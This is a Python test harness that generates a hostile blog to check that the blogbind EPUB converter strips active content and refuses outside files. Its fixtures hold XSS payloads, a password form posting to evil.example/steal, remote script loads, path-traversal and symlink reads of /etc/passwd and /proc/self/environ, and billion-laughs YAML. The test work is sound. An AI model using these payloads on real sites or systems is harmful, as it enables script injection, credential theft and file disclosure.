#!/usr/bin/env python3
"""hostile.py: binds a blog written to break blogbind, and checks that nothing broke.

The blog is generated at run time into build/hostile/ (its largest post is
100 MB, so it is not kept in the repository): broken front matter of several
kinds, invalid UTF-8, a byte-order mark, CRLF, empty posts, a binary file named
like a post, a post with NUL bytes and control characters, billion-laughs YAML
aliases, nesting thousands of levels deep, a hundred thousand headings, active
content (scripts, event handlers, javascript: URLs in many disguises, iframes,
objects, embeds, forms, a scripted SVG image), paths and symbolic links that
lead out of the folder, Liquid includes of outside files, entities, very long
lines, markup and quotes in titles, emoji, right-to-left text, odd file names.

Then it runs build/blogbind (or $BLOGBIND) and checks: exit 0 in bounded time
and memory, every published post's marker sentence in the book (once), the
book through EPUBCheck with 0 errors, no active content and no outside file in
the book, warnings one per line as PATH:LINE:COL: warning: (a few positions
checked exactly) and counted in the summary, --strict failing without touching
an existing book, SIGTERM/SIGINT and a full disk leaving no partial file.

Prints "ok - ..." / "not ok - ..." lines and "hostile: N passed, N failed";
exits 1 when a check failed. Environment: BLOGBIND or BB_BUILD (the program,
tests/tap.py), BB_ASAN (a sanitizer build to run over the same blog; default
$BB_BUILD/asan/blogbind, "0" not to run one), EPUBCHECK_JAR, BB_HOSTILE_OUT
(default $BB_BUILD/hostile), BB_HOSTILE_QUICK=1 (a 20 MB post instead of
100 MB). What cannot run here (no EPUBCheck, no sanitizer build, no tmpfs
mount, no mount namespace) fails unless BB_ALLOW_SKIP=1 (tests/tap.py).
The "no active content" oracle is tests/oracles.py, shared with e2e.py.
"""
import hashlib
import os
import re
import resource
import shutil
import signal
import struct
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tap import BIN, BUILD, ROOT, check, done, epubcheck_missing, skip  # noqa: E402
import tap  # noqa: E402
from oracles import active_content  # noqa: E402

ASAN = os.environ.get("BB_ASAN") or os.path.join(BUILD, "asan", "blogbind")
OUT = os.path.abspath(os.environ.get("BB_HOSTILE_OUT") or os.path.join(BUILD, "hostile"))
BLOG = os.path.join(OUT, "blog")
OUTSIDE = os.path.join(OUT, "outside")
BOOKS = os.path.join(OUT, "books")
QUICK = os.environ.get("BB_HOSTILE_QUICK") == "1"
HUGE_MB = 20 if QUICK else 100

# Bounds the run must stay within. Posts are read at most 8 MB each
# (BB_MAX_POST_BYTES). Prose costs cmark and libxml2 some ten bytes of tree
# per byte of text (the 8 MB cut of the 100 MB post: ~90 MB); what costs
# most is many tiny elements, some 600 bytes each in libxml2's DOM, so a
# post of a million one-line headings would take over a gigabyte unless the
# elements of a post are bounded (250,000 of them: ~200 MB). Two rendering
# threads here (-j 2): 512 MB leaves room for two such posts and fails a run
# that holds the 100 MB post, expands the YAML aliases or keeps a DOM node
# per heading of a million. The time bound is generous for a shared machine
# (the run takes seconds); a run that is quadratic somewhere takes minutes.
MAX_RSS_KB = 512 * 1024
MAX_SECONDS = 120
XHTML = "http://www.w3.org/1999/xhtml"

# ---- the blog ----

posts = []          # (relative path as bytes, marker or None, expected in the book)
SECRET = "OUTSIDE-SECRET-7f3a9c do not bind this sentence"


def marker(tag):
    return "Marker sentence %s stands here." % tag


def closing(tag):
    return "Closing sentence %s ends the post." % tag


def write(rel, data, mk=None, expect=True):
    """Writes a file of the blog; rel may be str or bytes (odd names)."""
    if isinstance(rel, str):
        rel = rel.encode("utf-8")
    path = os.path.join(BLOG.encode(), rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(path, "wb") as f:
        f.write(data)
    if mk is not None:
        posts.append((rel, mk, expect))


def post(name, fm, body, expect=True, tag=None, close=True):
    """A Markdown post with a marker sentence where its body says MARKER and
    a closing sentence after everything else (so text after hostile markup
    must survive too). fm None: no front matter."""
    tag = tag or re.sub(r"[^a-z0-9]", "", name.lower())[:40]
    mk = marker(tag)
    text = ("---\n" + fm + "---\n\n" if fm is not None else "") + body.replace("MARKER", mk)
    if close:
        text += "\n\n" + closing(tag) + "\n"
        posts.append((("_posts/" + name + " (end)").encode(), closing(tag), expect))
    write("_posts/" + name, text, mk, expect)
    return mk


def png(w=2, h=2, rgb=(200, 30, 30)):
    def chunk(t, d):
        c = struct.pack(">I", len(d)) + t + d
        return c + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def make_blog():
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    os.makedirs(BLOG)
    os.makedirs(OUTSIDE)
    os.makedirs(BOOKS)
    del posts[:]

    # outside the blog's folder: what must never be bound
    with open(os.path.join(OUTSIDE, "secret.txt"), "w") as f:
        f.write(SECRET + "\n")
    with open(os.path.join(OUTSIDE, "secret.png"), "wb") as f:
        f.write(png(3, 3, (1, 2, 3)))
    with open(os.path.join(OUTSIDE, "2024-03-01-outside-post.md"), "w") as f:
        f.write("---\ntitle: Outside\n---\n\n" + SECRET + "\n")

    write("_config.yml",
          'title: "Hostile <b>blog</b> & \\"friends\\""\n'
          "author: Mallory\n"
          "lang: en\n"
          "url: https://hostile.example\n"
          "cover: ../../../../etc/passwd\n")
    write("assets/ok.png", png())
    os.symlink("ok.png", os.path.join(BLOG, "assets", "alias.png"))          # inside: fine
    os.symlink("/etc/hostname", os.path.join(BLOG, "assets", "host.png"))     # outside
    os.symlink("/etc/passwd", os.path.join(BLOG, "assets", "passwd.png"))
    os.symlink(os.path.join(OUTSIDE, "secret.png"), os.path.join(BLOG, "assets", "outside.png"))
    os.symlink("../../outside", os.path.join(BLOG, "assets", "dirlink"))       # a folder out
    write("assets/evil.svg",
          '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
          'width="10" height="10" onload="alert(1)"><script>alert(2)</script>'
          '<a xlink:href="javascript:alert(3)"><rect width="10" height="10"/></a>'
          '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(4)"/>'
          '</foreignObject><image xlink:href="file:///etc/passwd"/></svg>\n')
    write("assets/svg-named.png",
          '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4">'
          '<script type="text/javascript">alert(5)</script><rect width="4" height="4" onclick="alert(6)"/></svg>')
    write("assets/text.png", "this is not an image\n")

    # -- front matter --
    post("2024-01-01-unclosed-front-matter.md", None,
         "---\ntitle: Never closed\nlayout: post\n\nMARKER\n")
    post("2024-01-02-tab-in-front-matter.md", "title: Tab here\n\tbad: indent\n", "MARKER\n")
    post("2024-01-03-unterminated-quote.md", 'title: "never ends\ntags: [a, b\n', "MARKER\n")
    post("2024-01-04-not-a-mapping.md", "- just\n- a list\n", "MARKER\n")
    post("2024-01-05-bad-date.md", "title: Bad date\ndate: yesterday-ish\n", "MARKER\n")
    post("2024-01-06-title-is-a-list.md", "title: [a, b]\n", "MARKER\n")
    post("2024-01-07-unknown-alias.md", "title: *nope\n", "MARKER\n")
    laughs = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for i, c in enumerate("bcdefghij"):
        p = "abcdefghij"[i]
        laughs += "%s: &%s [%s]\n" % (c, c, ",".join(["*" + p] * 9))
    post("2024-01-08-billion-laughs.md", "title: Billion laughs\n" + laughs + "tags: *j\ncategories: *j\n"
         "author: *j\n", "MARKER\n")
    post("2024-01-09-deep-yaml.md", "title: Deep YAML\nx: " + "[" * 20000 + "]" * 20000 + "\n", "MARKER\n")
    post("2024-01-10-many-keys.md", "title: Many keys\n" + "".join("k%d: v\n" % i for i in range(30000)),
         "MARKER\n")
    post("2024-01-11-toml-in-jekyll.md", None, "+++\ntitle = 'TOML here'\ndate = 2024-01-11\n+++\n\nMARKER\n")
    post("2024-01-12-yaml-tags.md", "title: !!binary aGVsbG8=\nx: !!python/object:os.system 'ls'\n"
         "y: &r [*r]\n", "MARKER\n")
    post("2024-01-13-null-title.md", "title: ~\ndate: 2024-02-30\n", "MARKER\n")

    # -- encodings --
    write("_posts/2024-01-14-invalid-utf8.md",
          b"---\ntitle: Bad bytes\n---\n\nHello \xff world " + marker("invalidutf8").encode() +
          b"\nOverlong \xc0\xaf, surrogate \xed\xa0\x80, too big \xf4\x90\x80\x80, five bytes "
          b"\xf8\x88\x80\x80\x80, cut \xe2\x82\n\n<p title=\"\xfe\">attr</p>\n", marker("invalidutf8"))
    write("_posts/2024-01-15-byte-order-mark.md",
          b"\xef\xbb\xbf---\ntitle: Byte order mark\n---\n\n" + marker("bom").encode() + b"\n", marker("bom"))
    write("_posts/2024-01-16-crlf.md",
          ("---\r\ntitle: Carriage returns\r\n---\r\n\r\n# Head\r\n\r\n" + marker("crlf") +
           "\r\nold mac line\rnext\r\n").encode(), marker("crlf"))
    write("_posts/2024-01-17-empty-post.md", b"")
    write("_posts/2024-01-18-front-matter-only.md", b"---\ntitle: Only front matter\n---\n")
    write("_posts/2024-01-19-front-matter-no-newline.md", b"---\ntitle: No final newline\n---")
    write("_posts/2024-01-20-binary.md",
          png() + b"\x00\x00\x00" + os.urandom(2000) + marker("binary").encode(), marker("binary"), False)
    write("_posts/2024-01-21-nul-bytes.md",
          b"---\ntitle: NUL bytes\n---\n\n" + marker("nulbytes").encode() + b"\n\nA NUL \x00 here and "
          b"there\x00.\n", marker("nulbytes"))
    write("_posts/2024-01-22-control-characters.md",
          b'---\ntitle: "Control \\x01 \\a \\e chars \\uFFFE"\n---\n\n' + marker("controlchars").encode() +
          b"\n\nBell \x07 backspace \x08 vt \x0b ff \x0c esc \x1b[31m del \x7f c1 \xc2\x85\xc2\x9f "
          b"nonchar \xef\xbf\xbe \xef\xbf\xbf \xef\xb7\x90 refs &#1; &#x0; &#xFFFE; &#xD800; &#x110000;\n\n"
          b"## Heading \x01 with \x1b control\n\n"
          b"<span title=\"a\x01b&#2;c\">attr</span> [link](http://x.example/\x01) ![alt \x02](nothere.png)\n")
    huge = os.path.join(BLOG, "_posts", "2024-01-23-huge-post.md")
    para = ("A filler paragraph of the huge post, with words enough to look like prose "
            "and to be folded into lines by a reader. " * 3 + "\n\n").encode()
    with open(huge, "wb") as f:
        f.write(b"---\ntitle: Huge post\n---\n\n" + marker("hugepost").encode() + b"\n\n")
        chunk = para * (1 << 20 // len(para) + 1)
        while f.tell() < HUGE_MB << 20:
            f.write(chunk)
    posts.append((b"_posts/2024-01-23-huge-post.md", marker("hugepost"), True))

    # -- depth and size --
    post("2024-01-24-deep-lists.md", "title: Deep lists\n",
         "MARKER\n\n" + "- " * 5000 + "deepest list item\n\n" +
         "".join("  " * i + "- level %d\n" % i for i in range(300)) + "\n1. " * 3000 + "x\n")
    post("2024-01-25-deep-quotes.md", "title: Deep quotes\n", "MARKER\n\n" + ">" * 5000 + " deepest quote\n")
    post("2024-01-26-deep-html.md", "title: Deep HTML\n",
         "MARKER\n\n<div>" + "<div>" * 5000 + "deepest div" + "</div>" * 5001 + "\n\n" +
         "<p>" + "<span>" * 5000 + "deep span" + "</span>" * 5000 + "</p>\n\n" +
         "<table>" + "<tr><td><table>" * 1000 + "x" + "</table></td></tr>" * 1000 + "</table>\n\n" +
         "<p>" + "<b><i>" * 3000 + "misnested" + "</b></i>" * 3000 + "</p>\n\n" +
         "*" * 5000 + "emphasis" + "*" * 5000 + "\n\n" + "[" * 5000 + "x" + "](y)" * 5000 + "\n\n" +
         "<ul>" * 5000 + "<li>raw list" + "\n")
    # a million tiny posts' worth of headings, in one post under the 8 MB cap,
    # all alike (so that making their ids unique is work too)
    post("2024-01-27-many-headings.md", "title: Many headings\n",
         "MARKER\n\n" + "# x\n" * 1000000 + "## h2\n\n###### h6\n")
    post("2024-01-28-long-lines.md", "title: Long lines\n",
         "MARKER\n\n" + "x" * (2 << 20) + "\n\n" + "word " * 200000 + "\n\n[long](http://x.example/" +
         "a" * 300000 + ")\n\n" + "`" * 10000 + "\n")

    # -- active content --
    post("2024-01-29-scripts.md", "title: Scripts\n",
         "MARKER\n\n<script>alert(1)</script>\n\nafter script one\n\n"
         "<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\n<scr<script>ipt>alert(2)</script>\n\n"
         "<p>inline <script type=\"module\">import('x')</script> text</p>\n\n"
         "<script>\n</script>\n<noscript><p>noscript text</p></noscript>\n\n"
         "<svg onload=alert(3)><script>alert(4)</script></svg>\n\n"
         "<math><mtext><script>alert(5)</script></mtext></math>\n\n"
         "<style>body{background:url(javascript:alert(6))}</style>\n\n"
         "<p style=\"background:url(javascript:alert(7)); behavior: url(x.htc); width: expression(alert(8))\">"
         "styled</p>\n")
    post("2024-01-30-event-handlers.md", "title: Event handlers\n",
         "MARKER\n\n<p onclick=\"alert(1)\">click</p>\n\n<div ONMOUSEOVER=alert(2) OnLoad='x'>hover</div>\n\n"
         "<img src=\"/assets/ok.png\" alt=\"ok\" onerror=\"alert(3)\">\n\n"
         "<a href=\"#\" onfocus=alert(4) autofocus>focus</a>\n\n<body onload=alert(5)>body text</body>\n\n"
         "<details open ontoggle=alert(6)><summary>sum</summary>det</details>\n\n"
         "<p formaction=\"javascript:alert(7)\" xlink:href=\"javascript:alert(8)\">attrs</p>\n")
    post("2024-01-31-javascript-urls.md", "title: Javascript URLs\n",
         "MARKER\n\n[plain](javascript:alert(1))\n\n[upper](JAVASCRIPT:alert(2))\n\n"
         "<a href=\"java&#x09;script:alert(3)\">tab entity</a>\n\n"
         "<a href=\"jav&#x0A;ascript:alert(4)\">newline entity</a>\n\n"
         "<a href=\"&#106;avascript:alert(5)\">decimal j</a>\n\n"
         "<a href=\" \x01javascript:alert(6)\">control</a>\n\n"
         "<a href=\"vbscript:msgbox(7)\">vb</a>\n\n<a href=\"data:text/html,<script>alert(8)</script>\">data</a>\n\n"
         "<a href=\"jAvAsCrIpT&colon;alert(9)\">colon entity</a>\n\n"
         "[ref link][r]\n\n[r]: javascript:alert(10)\n\n<javascript:alert(11)>\n\n"
         "![img](javascript:alert(12))\n\n<img src=\"JaVaScRiPt:alert(13)\" alt=\"js img\">\n\n"
         "<a href=\"java\tscript:alert(14)\">raw tab</a>\n\n"
         "<iframe src=\"javascript:alert(15)\"></iframe>\n\n<object data=\"javascript:alert(16)\"></object>\n")
    post("2024-02-01-embeds.md", "title: Embeds\n",
         "MARKER\n\n<iframe src=\"https://www.youtube.com/embed/xyz\" width=\"560\"></iframe>\n\n"
         "<iframe src=\"//player.example/v/1\"></iframe>\n\n"
         "<object data=\"movie.swf\" type=\"application/x-shockwave-flash\"><param name=\"x\" value=\"y\">"
         "object text</object>\n\n<embed src=\"https://evil.example/x.swf\">\n\n"
         "<form action=\"https://evil.example/steal\" method=\"post\"><p>form text</p>"
         "<input type=\"password\" name=\"p\"><button onclick=\"x()\">Go</button>"
         "<select><option>a</option></select><textarea>typed text</textarea></form>\n\n"
         "<applet code=\"x.class\">applet text</applet>\n\n<frameset><frame src=\"x.html\"></frameset>\n\n"
         "<base href=\"https://evil.example/\">\n\n<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">\n\n"
         "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">\n\n"
         "<video src=\"https://x.example/v.mp4\" poster=\"javascript:alert(2)\"></video>\n\n"
         "<audio><source src=\"/etc/passwd\"></audio>\n\n<portal src=\"https://evil.example\"></portal>\n\n"
         "<isindex action=\"javascript:alert(3)\">\n")
    post("2024-02-02-svg-images.md", "title: SVG images\n",
         "MARKER\n\n![evil svg](/assets/evil.svg)\n\n![svg named png](/assets/svg-named.png)\n\n"
         "![a text file](/assets/text.png)\n\n![fine](/assets/ok.png) ![alias](/assets/alias.png)\n")

    # -- outside the folder --
    post("2024-02-03-outside-paths.md", "title: Outside paths\n",
         "MARKER\n\n![dots](../../../../etc/passwd)\n\n![abs](/etc/hostname)\n\n"
         "<img src=\"file:///etc/passwd\" alt=\"file url\">\n\n![host link](/assets/host.png)\n\n"
         "![passwd link](../assets/passwd.png)\n\n![outside png](/assets/outside.png)\n\n"
         "![dir link](/assets/dirlink/secret.png)\n\n![encoded](%2e%2e/%2e%2e/%2e%2e/outside/secret.png)\n\n"
         "![encoded slash](..%2f..%2f..%2foutside%2fsecret.png)\n\n![climb](/assets/../../outside/secret.png)\n\n"
         "<img src=\" /etc/hostname\" alt=\"space\">\n\n<img src=\"/proc/self/environ\" alt=\"proc\">\n\n"
         "<img srcset=\"/etc/passwd 1x\" alt=\"srcset\">\n\n[file link](file:///etc/passwd)\n\n"
         "<a href=\"../../../outside/secret.txt\">relative link out</a>\n\n"
         "{% include ../../etc/passwd %}\n\n{% include_relative ../../outside/secret.txt %}\n\n"
         "{% include /etc/passwd %}\n\n{% raw %}kept {% include x %} raw{% endraw %}\n")
    os.symlink(os.path.join(OUTSIDE, "2024-03-01-outside-post.md"),
               os.path.join(BLOG, "_posts", "2024-03-01-symlink-out.md"))
    os.symlink(OUTSIDE, os.path.join(BLOG, "_posts", "outside-dir"))
    os.symlink(".", os.path.join(BLOG, "_posts", "loop"))
    os.symlink("/etc/passwd", os.path.join(BLOG, "_posts", "2024-03-02-passwd.md"))
    os.symlink("/dev/zero", os.path.join(BLOG, "_posts", "2024-03-03-dev-zero.md"))
    os.mkfifo(os.path.join(BLOG, "_posts", "2024-03-04-fifo.md"))

    # -- text that must come through --
    post("2024-02-04-entities.md", "title: Entities\n",
         "MARKER\n\n<p>nbsp&nbsp;copy&copy; hellip&hellip; mdash&mdash; euro&euro; amp&amp; lt&lt; "
         "bogus&bogus; noterm&copy no-semicolon&ampx; numeric&#169;&#xA9; zero&#0; big&#99999999;</p>\n\n"
         "Markdown &nbsp; &copy; &NotAnEntity; &#x1F600;\n\n<span title=\"&nbsp;&copy;&quot;&lt;\">t</span>\n")
    post("2024-02-05-title-markup.md",
         "title: '<b>Bold</b> \"quoted\" & <script>alert(1)</script> ''single'' <img src=x onerror=alert(2)> "
         "]]> --> <!-- &amp; &nbsp;'\n", "MARKER\n")
    post("2024-02-06-emoji.md", "title: \"Emoji \U0001F469\u200D\U0001F469\u200D\U0001F467 \U0001F3F3\uFE0F\u200D"
         "\U0001F308 \U0001F1EF\U0001F1F5\"\n",
         "MARKER\n\n## \U0001F525 Fire heading \U0001F44D\U0001F3FD\n\n\U0001F600" * 1 +
         " text \U0001F4A9 with emoji, variation \u2764\uFE0F, keycap 1\uFE0F\u20E3\n")
    post("2024-02-07-right-to-left.md",
         "title: \"\u0645\u0631\u062d\u0628\u0627 \u202Eevil override\u202C \u05e9\u05dc\u05d5\u05dd\"\nlang: ar\n",
         "MARKER\n\n\u0647\u0630\u0627 \u0646\u0635 \u0639\u0631\u0628\u064a. \u05d6\u05d4 \u05d8\u05e7\u05e1\u05d8 "
         "\u05e2\u05d1\u05e8\u05d9.\n\nMixed \u202Bembedding\u202C and \u2067isolate\u2069 and \u200F mark.\n\n"
         "## \u0639\u0646\u0648\u0627\u0646\n")
    post("2024-02-08-lang-injection.md", "title: Lang injection\nlang: 'en\" onload=\"alert(1)'\n", "MARKER\n")
    post("2024-02-09-big-title.md", "title: '" + "Long title " * 2000 + "'\n", "MARKER\n")
    post("2024-02-10-markup-soup.md", "title: Markup soup\n",
         "MARKER\n\n<!-- a comment -- with -- dashes -->\n\n<![CDATA[ cdata text ]]>\n\n<?php echo 1; ?>\n\n"
         "<!DOCTYPE html>\n\n<p id=\"dup\">one</p><p id=\"dup\">two</p><p id=\"1bad\">three</p>"
         "<p id=\"p20240210-markup-soup-title\">four</p><p id=\"a b\">five</p>\n\n"
         "<p xmlns=\"http://evil.example/ns\" xmlns:epub=\"urn:x\" xml:lang=\"fr\" lang=\"de\">ns attrs</p>\n\n"
         "<p x:y=\"1\" 1a=\"b\" a\"b=\"c\" -x=\"d\">odd attributes</p>\n\n<foo:bar>unknown prefixed</foo:bar>\n\n"
         "<table><td>cell without row</td><p>para in table</p></table>\n\n<li>stray item</li>\n\n"
         "<xmp><script>alert(1)</script></xmp>\n\n<textarea></p><script>alert(2)</script></textarea>\n\n"
         "<template><p>template text</p></template>\n\n<h1></h1>\n\n<h2 id=\"x\"><a href=\"#x\">self</a></h2>\n\n"
         "[missing anchor](#nowhere) [^undefined] [^1]\n\n[^1]: a footnote [^1]\n\n"
         "</body></html>\n\ntext after html end\n\n<plaintext>plain <b>text</b> runs on\n")
    post("2024-02-11-liquid.md", "title: Liquid\n",
         "MARKER\n\n{% post_url 2099-01-01-nothing %}\n\n{{ site.nothing | append: 'x' }}\n\n"
         + "{{ page.title | append: page.title }}" * 2000 + "\n\n{% if x %}if{% endif %} {% for i in (1..1000000000) %}"
         "loop{% endfor %}\n\n{% raw %} never ended\n\n{{ unterminated\n")
    post("2024-02-12-tables.md", "title: Tables\n",
         "MARKER\n\n|" + "a|" * 3000 + "\n|" + "-|" * 3000 + "\n|" + "1|" * 3000 + "\n\n" +
         "| x |\n|---|\n" + "| row |\n" * 20000)
    post("2024-02-13-zalgo.md", "title: Zalgo\n", "MARKER\n\nZ" + "\u0301\u0316\u0334" * 5000 + "algo\n")
    post("2024-02-14-footnotes.md", "title: Footnotes\n",
         "MARKER\n\n" + "".join("ref[^n%d] " % i for i in range(5000)) + "\n\n" +
         "".join("[^n%d]: note %d\n" % (i, i) for i in range(5000)))
    post("2024-02-15-unpublished.md", "title: Unpublished\npublished: false\n", "MARKER\n", expect=False)
    write("_drafts/a-draft.md", "---\ntitle: Draft\n---\n\n" + marker("draft") + "\n", marker("draft"), False)
    write("_posts/2024-02-16-page.html",
          "<!DOCTYPE html><html><head><title>HTML post</title><script>alert(1)</script>"
          "<meta http-equiv=refresh content=0></head><body onload=\"alert(2)\"><p>" + marker("htmlpost") +
          "</p></body></html>\n<p>text after the document</p>\n", marker("htmlpost"))
    write("_posts/2024-02-17-odd \"name\" & <amp> 'q' \U0001F600.md",
          "no front matter here\n\n" + marker("oddname") + "\n", marker("oddname"))
    write(b"_posts/2024-02-18-bad-\xff-name.md", "text {{ page.slug }} {{ page.path }} {{ page.title }}\n\n" +
          marker("badname") + "\n", marker("badname"))
    write("_posts/2024-02-19-new\nline\tname.md", b"text \xff {{ page.path }}\n\n" + marker("newlinename").encode() + b"\n",
          marker("newlinename"))
    post("2024-02-20-multiline-values.md", "title: Multi line\ndate: |\n  2024\n  evil\n", "MARKER\n\n"
         "<img src=\"x&#10;y.png\" alt=\"newline in src\">\n")
    write("_posts/2024-02-21-dir.md/2024-02-21-inner.md", "inner\n\n" + marker("inner") + "\n", marker("inner"))
    write("_posts/.hidden.md", "hidden\n")
    write("_posts/2024-02-22-backup.md~", "backup\n")
    write("_posts/2024-13-45-bad-date-name.md", "bad date\n\n" + marker("baddatename") + "\n")


MANY = os.path.join(OUT, "many")
NMANY = 20000


def make_many():
    """A blog of twenty thousand tiny posts, each with headings."""
    os.makedirs(os.path.join(MANY, "_posts"))
    with open(os.path.join(MANY, "_config.yml"), "w") as f:
        f.write("title: Many posts\nlang: en\n")
    for i in range(NMANY):
        y, d = 2000 + i // 365 % 20, i % 365
        name = "%04d-%02d-%02d-post-%05d.md" % (y, d // 31 % 12 + 1, d % 28 + 1, i)
        with open(os.path.join(MANY, "_posts", name), "w") as f:
            f.write("---\ntitle: Post %d\n---\n\n## One\n\nMany marker %05d.\n\n## Two\n\n### Three\n" % (i, i))


# ---- running ----

def run(args, timeout=MAX_SECONDS * 2, env=None, bin_=None, on_start=None):
    """Runs blogbind; returns (exit status or -signal, stdout, stderr, seconds, peak RSS in KB)."""
    e = dict(os.environ)
    e.pop("SOURCE_DATE_EPOCH", None)
    if env:
        e.update(env)
    so = open(os.path.join(OUT, "stdout.txt"), "w+b")
    se = open(os.path.join(OUT, "stderr.txt"), "w+b")
    t0 = time.time()
    p = subprocess.Popen([bin_ or BIN] + args, stdout=so, stderr=se, env=e)
    timer = threading.Timer(timeout, lambda: os.kill(p.pid, signal.SIGKILL))
    timer.start()
    if on_start:
        on_start(p)
    _, status, ru = os.wait4(p.pid, 0)
    p.returncode = 0  # already reaped
    timer.cancel()
    dt = time.time() - t0
    code = os.waitstatus_to_exitcode(status)
    so.seek(0)
    se.seek(0)
    out = so.read().decode("utf-8", "replace")
    err = se.read().decode("utf-8", "replace")
    so.close()
    se.close()
    return code, out, err, dt, ru.ru_maxrss


def epubcheck(path):
    """EPUBCheck with a deep stack (the book nests deeply): (error lines, all lines)."""
    n, _, lines = tap.epubcheck(path, ("-Xss16m",))
    errors = [l for l in lines if l.startswith(("FATAL", "ERROR", "epubcheck exit"))]
    if n and not errors:
        errors = ["%d errors" % n]
    return errors, lines


def sha(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def listing(d):
    return sorted(os.listdir(d))


# ---- the book ----

def book_text(z):
    """The text of every content document, whitespace folded, per file."""
    texts = {}
    for n in z.namelist():
        if n.endswith(".xhtml"):
            try:
                root = ET.fromstring(z.read(n))
            except ET.ParseError:
                continue
            texts[n] = re.sub(r"[ \t\n\r\f\v]+", " ", "".join(root.itertext()))
    return texts


def nav_titles(z):
    try:
        root = ET.fromstring(z.read("EPUB/nav.xhtml"))
    except ET.ParseError:
        return []
    return [re.sub(r"\s+", " ", "".join(a.itertext())).strip() for a in root.iter("{%s}a" % XHTML)]


# Text written next to hostile markup, which must come through as text.
SURVIVORS = ["after script one", "noscript text", "styled", "click", "hover", "body text", "focus",
             "object text", "form text", "typed text", "applet text", "deepest div", "deep span",
             "deepest list item", "deepest quote", "misnested", "raw list", "para in table", "cell without row",
             "stray item", "text after html end", "runs on", "text after the document", "ns attrs",
             "odd attributes", "unknown prefixed", "tab entity", "decimal j", "colon entity",
             "nbsp\u00a0copy\u00a9 hellip\u2026 mdash\u2014", "Z\u0301\u0316\u0334", "\u0647\u0630\u0627 \u0646\u0635",
             "\U0001F469\u200D\U0001F469\u200D\U0001F467", "newline in src", "kept {% include x %} raw"]


def outside_files():
    files = {}
    for p in ["/etc/passwd", "/etc/hostname", os.path.join(OUTSIDE, "secret.png"),
              os.path.join(OUTSIDE, "secret.txt"), os.path.join(OUTSIDE, "2024-03-01-outside-post.md")]:
        try:
            with open(p, "rb") as f:
                files[p] = f.read()
        except OSError:
            pass
    return files


# ---- the checks ----

DIAG = re.compile(r"^(?:blogbind: (?:note|warning|error): .+|blogbind: wrote .+"
                  r"|(?P<path>.+?)(?::(?P<line>\d+):(?P<col>\d+))?: (?P<sev>note|warning|error): .+)$")


def diag_checks(err, src):
    lines = [l for l in err.split("\n") if l]
    bad = [l for l in lines if not DIAG.match(l) or (not l.startswith("blogbind: ") and not l.startswith(src + "/"))]
    check(not bad, "every line on stderr is one diagnostic (PATH[:LINE:COL]: SEVERITY: WHAT) or the summary",
          "\n".join(repr(l) for l in bad[:8]))
    warns = [l for l in lines if re.search(r": warning: ", l)]
    m = re.search(r"blogbind: wrote .*?(\d+) warnings", err)
    check(m and int(m.group(1)) == len(warns), "the summary counts the warnings printed",
          "summary %s, printed %d" % (m.group(1) if m else None, len(warns)))

    def has(path, pattern, where=None):
        pat = re.compile(re.escape(src + "/_posts/" + path) + (r":%d:%d" % where if where else r"(?::\d+:\d+)?") +
                         r": warning: .*" + pattern, re.I)
        return any(pat.search(l) for l in lines)

    exact = [("2024-01-01-unclosed-front-matter.md", "never closed", (1, 1)),
             ("2024-01-02-tab-in-front-matter.md", "", (3, 1)),
             ("2024-01-14-invalid-utf8.md", "invalid UTF-8", (5, 7)),
             ("2024-01-21-nul-bytes.md", "NUL", (7, 7)),
             ("2024-01-05-bad-date.md", "date", (3, 7))]
    for path, pat, where in exact:
        check(has(path, pat, where), "warning at %s:%d:%d (%s)" % ((path,) + where + (pat or "front matter",)),
              "\n".join(l for l in lines if path in l)[:600])
    kinds = [("2024-01-03-unterminated-quote.md", "front matter"), ("2024-01-04-not-a-mapping.md", "mapping"),
             ("2024-01-06-title-is-a-list.md", "title"), ("2024-01-07-unknown-alias.md", "alias"),
             ("2024-01-08-billion-laughs.md", "alias"), ("2024-01-09-deep-yaml.md", "nested|deep"),
             ("2024-01-10-many-keys.md", "too large|values|keys"), ("2024-01-20-binary.md", "not a text"),
             ("2024-01-22-control-characters.md", "control|character"),
             ("2024-01-23-huge-post.md", "larger than"),
             ("2024-01-24-deep-lists.md", "nested|deep|flattened"), ("2024-01-25-deep-quotes.md", "nested|deep|flattened"),
             ("2024-01-26-deep-html.md", "nested|deep|flattened"), ("2024-01-27-many-headings.md", "heading"),
             ("2024-01-27-many-headings.md", "elements"),
             ("2024-01-29-scripts.md", "script"), ("2024-01-30-event-handlers.md", "event handler"),
             ("2024-01-31-javascript-urls.md", "script URL"), ("2024-02-01-embeds.md", "iframe|embedded"),
             ("2024-02-01-embeds.md", "object"), ("2024-02-01-embeds.md", "embed>"), ("2024-02-01-embeds.md", "form"),
             ("2024-02-02-svg-images.md", "svg|script"), ("2024-02-03-outside-paths.md", "outside|refused|leaves"),
             ("2024-02-03-outside-paths.md", "symbolic link"), ("2024-02-03-outside-paths.md", "file: URL"),
             ("2024-02-03-outside-paths.md", "include"), ("2024-03-01-symlink-out.md", "outside|link|refused"),
             ("2024-03-02-passwd.md", "outside|link|refused")]
    for path, pat in kinds:
        check(has(path, pat), "a warning names %s (%s)" % (path, pat),
              "\n".join(l for l in lines if path in l)[:600])
    check(any(re.search(r"outside-dir|symbolic link|outside", l) and "warning" in l and "_posts/outside-dir" in l
              for l in lines) or any("outside-dir" in l and "warning" in l for l in lines),
          "a warning names the folder link _posts/outside-dir that leads out",
          "\n".join(l for l in lines if "outside-dir" in l)[:400])


def book_checks(path, err):
    z = zipfile.ZipFile(path)
